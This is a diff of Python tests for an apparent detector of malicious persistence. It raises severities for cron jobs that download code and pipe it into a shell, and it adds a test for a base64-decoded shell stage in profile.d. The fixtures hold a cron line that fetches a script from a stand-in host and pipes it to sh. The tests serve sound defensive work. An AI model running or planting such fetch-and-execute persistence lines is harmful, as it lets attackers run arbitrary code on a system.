@@ -27,12 +27,12 @@ def run_writing(tmp_path: Path, texts: dict[str, str]) -> Stream:
     return s
 
 
-def test_cron_spool_line_fetching_into_sh_is_high_with_the_line(tmp_path: Path) -> None:
+def test_cron_spool_line_fetching_into_sh_is_critical_with_the_line(tmp_path: Path) -> None:
     line = "@reboot wget -q -O- http://cfg-update.test:8080/j/r.sh | sh"
     s = run_writing(tmp_path, {"/var/spool/cron/crontabs/root": line + "\n"})
     (finding,) = DETECTOR.detect(replace(s.view(), artifacts_dir=tmp_path))
     assert (finding.rule_id, finding.technique) == ("cron-job-download-shell", "T1053.003")
-    assert finding.severity.value == "high"
+    assert finding.severity.value == "critical"  # a job that runs what the network serves
     evidence = finding.evidence[0]
     assert (evidence.path, evidence.excerpt) == ("/var/spool/cron/crontabs/root", line)
     assert evidence.process == ("[1] sh /srv/entrypoint.sh",)
@@ -96,4 +96,11 @@ def test_fetch_to_shell_persisted_twice_is_critical() -> None:
     (both,) = PersistedCommands().detect(run_with(list(data["files"])))
     assert both.severity is Severity.CRITICAL and len(both.evidence) == 2
     (one,) = PersistedCommands().detect(run_with(["/etc/cron.d/0hourly-sync"]))
-    assert one.severity is Severity.HIGH  # the grouped fallback alone is found, once
+    assert one.severity is Severity.CRITICAL  # the grouped fallback alone: it fetches
+    assert len(one.evidence) == 1
+
+
+def test_decoded_stage_persisted_once_stays_high(tmp_path: Path) -> None:
+    s = run_writing(tmp_path, {"/etc/profile.d/motd.sh": "echo ZWNobyBoaQ== | base64 -d | sh\n"})
+    (finding,) = DETECTOR.detect(replace(s.view(), artifacts_dir=tmp_path))
+    assert (finding.rule_id, finding.severity) == ("shell-profile-download-shell", Severity.HIGH)
